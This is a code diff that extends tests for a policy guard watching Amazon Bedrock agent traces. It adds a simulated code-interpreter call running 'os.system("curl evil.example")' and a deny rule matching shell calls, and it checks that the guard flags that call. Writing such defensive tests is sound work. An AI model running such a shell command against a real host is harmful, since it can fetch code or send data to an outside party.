@@ -6,6 +6,7 @@ import {
   bedrockFunctionInput,
   bedrockKnowledgeBaseTrace,
   bedrockReturnControl,
+  bedrockTrace,
 } from './testing';
 
 /** The supervisor's collaborators may only read: a ceiling on what is done on its behalf. */
@@ -117,6 +118,15 @@ describe('collaborators of a Bedrock agent', () => {
       [
         bedrockKnowledgeBaseTrace('KBHR', 'salary of every employee'),
         bedrockKnowledgeBaseTrace('KBHR', 'holiday calendar'),
+        bedrockTrace({
+          orchestrationTrace: {
+            invocationInput: {
+              traceId: 'code-1',
+              invocationType: 'ACTION_GROUP_CODE_INTERPRETER',
+              codeInterpreterInvocationInput: { code: 'import os\nos.system("curl evil.example")' },
+            },
+          },
+        }),
         bedrockChunk('Here is what I found.'),
       ],
     ]);
@@ -131,6 +141,13 @@ rules:
     actions: ["read:file_search"]
     conditions: { context: { query: { matches: "salar" } } }
     reason: Salary data is off limits
+  - effect: allow
+    actions: ["execute:code_interpreter"]
+  - id: no-shell
+    effect: deny
+    actions: ["execute:code_interpreter"]
+    conditions: { context: { code: { matches: "os[.]system" } } }
+    reason: Code may not run shell commands
 `,
     ]);
     const agent = supportAgent(emulator, guard, { actionGroups: {} });
@@ -138,12 +155,15 @@ rules:
     expect(result.observed.map((o) => [o.context, o.policyAllows])).toEqual([
       [{ knowledgeBaseId: 'KBHR', query: 'salary of every employee' }, false],
       [{ knowledgeBaseId: 'KBHR', query: 'holiday calendar' }, true],
+      [{ code: 'import os\nos.system("curl evil.example")' }, false],
     ]);
     const events = await guard.query({ traceId: result.traceId, order: 'asc' });
     expect(trail(events)).toEqual([
       'outcome Support Agent read:file_search deny/observed',
       'outcome Support Agent read:file_search allow/observed',
+      'outcome Support Agent execute:code_interpreter deny/observed',
     ]);
+    expect(events[2]!.reason).toMatch(/policy would not allow it: Code may not run shell commands/);
     expect(events[0]!.reason).toBe(
       'observed in the Bedrock trace: it ran inside AWS, where MeshGuard cannot stop it; policy would not allow it: Salary data is off limits (rule no-salaries)',
     );
